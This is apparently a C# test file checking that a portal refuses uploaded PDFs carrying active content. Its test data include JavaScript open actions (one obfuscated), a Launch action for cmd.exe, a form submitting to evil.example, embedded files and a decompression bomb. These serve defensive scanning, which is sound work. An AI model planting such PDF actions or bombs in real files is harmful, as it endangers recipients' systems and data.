using System.IO.Compression;
using System.Text;
using Kiket.Portal.Files;
using Kiket.Portal.Tests.Submissions;
using Kiket.Portal.Tests.TestKit;

namespace Kiket.Portal.Tests.Files;

/// <summary>A PDF among the compliance documents that does more than being read is refused, with what it has in it.</summary>
public sealed class ActivePdfTests : ScenarioTests
{
    [Theory]
    [InlineData("1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj", "a script")]
    [InlineData("1 0 obj<< /S /J#61vaScript /J#53 (app.alert(1)) >>endobj", "a script")]
    [InlineData("1 0 obj<</Names<</JavaScript 2 0 R>>>>endobj", "a script")]
    [InlineData("1 0 obj<</AA<</O<</S/Launch/Win<</F(cmd.exe)>>>>>>>>endobj", "starts a program")]
    [InlineData("1 0 obj<</Names<</EmbeddedFiles 3 0 R>>>>endobj", "an attached file")]
    [InlineData("1 0 obj<</Type/EmbeddedFile/Length 3>>stream\nabc\nendstream endobj", "an attached file")]
    [InlineData("1 0 obj<</Subtype/FileAttachment/FS 4 0 R>>endobj", "an attached file")]
    [InlineData("1 0 obj<</Subtype/RichMedia>>endobj", "embedded media")]
    [InlineData("1 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj", "sends data")]
    [InlineData("1 0 obj<</S/GoToR/F(other.pdf)>>endobj", "opens other files")]
    [InlineData("1 0 obj<</AcroForm<</XFA 5 0 R>>>>endobj", "a dynamic form")]
    [InlineData("trailer<</Encrypt 6 0 R>>", "can't be checked")]
    public async Task One_that_acts_is_refused_with_the_reason(string inside, string what)
    {
        await RefusedAsync(Encoding.ASCII.GetBytes(inside), what);
        await RefusedAsync(Compressed(inside.Replace("stream\nabc\nendstream", "", StringComparison.Ordinal)), what);
    }

    [Fact]
    public async Task A_bomb_is_not_unpacked() => await RefusedAsync(Compressed(new string(' ', 80 * 1024 * 1024)), "more compressed data than can be checked");

    [Theory]
    [InlineData("1 0 obj<</Type/Page/Contents 2 0 R>>endobj")]
    [InlineData("1 0 obj(This text names /JavaScriptEngine and Launch, JavaScript and EmbeddedFile.)endobj")]
    [InlineData("2 0 obj<</Length 30>>stream\nBT (x /JS y) Tj ET\nendstream endobj")]
    [InlineData("1 0 obj<</Subtype/Link/A<</S/URI/URI(https://acme.example)>>>>endobj")]
    public async Task One_that_is_only_pages_is_taken(string inside)
    {
        var draft = await Scenario.StartAsync();

        Scenario.Done(await Scenario.AttachAsync(draft, UploadKind.SecurityReview, Pictures.Pdf(inside), "review.pdf"));
    }

    private static byte[] Compressed(string objects)
    {
        using var packed = new MemoryStream();
        using (var writer = new ZLibStream(packed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            writer.Write(Encoding.ASCII.GetBytes(objects));
        }

        return [.. "9 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n"u8, .. packed.ToArray(), .. "\nendstream endobj\n"u8];
    }

    private async Task RefusedAsync(byte[] inside, string what)
    {
        var pdf = Pictures.Pdf();
        byte[] whole = [.. pdf[..9], .. inside, .. pdf[9..]];
        var draft = await Scenario.StartAsync();

        var refused = await Scenario.AttachAsync(draft, UploadKind.SecurityReview, whole, "review.pdf");

        Assert.Equal("document_active", refused.Error?.Code);
        Assert.Contains(what, refused.Error!.Message, StringComparison.Ordinal);
        Assert.Empty((await Scenario.FindAsync(draft)).Documents);
    }
}
